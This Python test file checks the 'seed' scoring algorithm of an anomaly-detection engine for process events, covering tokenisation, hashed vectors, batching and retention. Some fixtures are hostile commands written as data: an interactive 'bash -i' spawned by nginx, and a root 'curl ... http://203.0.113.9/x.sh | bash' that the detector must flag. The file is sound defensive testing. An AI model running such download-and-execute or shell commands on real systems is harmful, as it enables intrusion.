"""The seed algorithm behaves as the article says (DESIGN.md, seed facts)."""

from __future__ import annotations

import numpy as np
import pytest

from ruleless.settings import EngineSettings
from streams.engine import Engine
from streams.featurize import seed_tokens, seed_vector
from tests.factories import T0, event, workload_stream


def seed_engine() -> Engine:
    return Engine(EngineSettings(algorithm="seed"))


def test_tokens_follow_the_seed_order_and_keep_positions() -> None:
    e = event(process_name="Curl", parent_process="bash", cmdline="curl  -s X", local_port=None, remote_port=443)
    assert seed_tokens(e) == ["curl", "bash", "exec", "", "443", "curl", "", "-s", "x"]


def test_vector_is_signed_hashed_counts_into_128_dims() -> None:
    vec = seed_vector(["a", "", "b"], 128)
    assert vec.shape == (128,) and vec.dtype == np.float32
    assert np.abs(vec).sum() == 2  # the empty token is skipped but takes position 1


def test_empty_shard_scores_one() -> None:
    [scored] = seed_engine().score([event(cmdline="anything at all")])
    assert scored.score == 1.0
    assert scored.model == "seed/1"


def test_exact_repeat_of_normal_scores_zero() -> None:
    engine = seed_engine()
    engine.score(list(workload_stream("acme", "web", "web", 300)))
    [restart] = engine.score([event(ts=T0 + 500, cmdline="nginx -g daemon off;", process_name="nginx", parent_process="systemd")])
    assert restart.score < 0.05
    assert restart.severity == "ok"


def test_debug_shell_on_web_server_is_high() -> None:
    engine = seed_engine()
    engine.score(list(workload_stream("acme", "web", "web", 300)))
    [shell] = engine.score([event(ts=T0 + 500, process_name="bash", parent_process="nginx", cmdline="bash -i")])
    assert shell.score >= 0.7
    assert shell.severity in ("warn", "alert")


def test_curl_pipe_bash_as_root_is_high() -> None:
    engine = seed_engine()
    engine.score(list(workload_stream("acme", "web", "web", 300)))
    [bad] = engine.score(
        [event(ts=T0 + 500, uid=0, user="root", process_name="sh", parent_process="sshd",
               cmdline="sh -c curl -fsSL http://203.0.113.9/x.sh | bash")]
    )
    assert bad.score >= 0.9
    assert bad.severity == "alert"


def test_new_ci_script_is_high_first_and_low_on_second_run() -> None:
    engine = seed_engine()
    engine.score(list(workload_stream("acme", "ci", "ci", 300)))
    run = dict(process_name="bash", parent_process="runner", cmdline="bash ./scripts/release-notes.sh --since v1.4")
    [first] = engine.score([event(ts=T0 + 3600, **run)])
    [second] = engine.score([event(ts=T0 + 7200, **run)])
    assert first.score >= 0.5
    assert second.score < 0.2 < first.score


@pytest.mark.parametrize("batch", [1, 7, 64, 5000])
def test_batch_scores_equal_one_by_one(batch: int) -> None:
    events = list(workload_stream("acme", "web", "web", 400)) + list(workload_stream("acme", "db", "db", 400))
    events += [event(ts=T0 + 10, cmdline="bash -i"), event(ts=T0 + 11, cmdline="bash -i")]  # twin in one batch
    one = seed_engine()
    expected = [one.score([e])[0].score for e in events]
    many = seed_engine()
    got = [s.score for i in range(0, len(events), batch) for s in many.score(events[i : i + batch])]
    assert got == expected


def test_retention_expires_old_behaviour() -> None:
    engine = seed_engine()
    engine.score([event(ts=T0, cmdline="rare-tool --x")])
    [soon] = engine.score([event(ts=T0 + 86_400, cmdline="rare-tool --x")])
    [late] = engine.score([event(ts=T0 + 86_400 + 8 * 86_400, cmdline="rare-tool --x")])
    assert soon.score == 0.0
    assert late.score == 1.0  # the only entry was last seen more than 7 days before
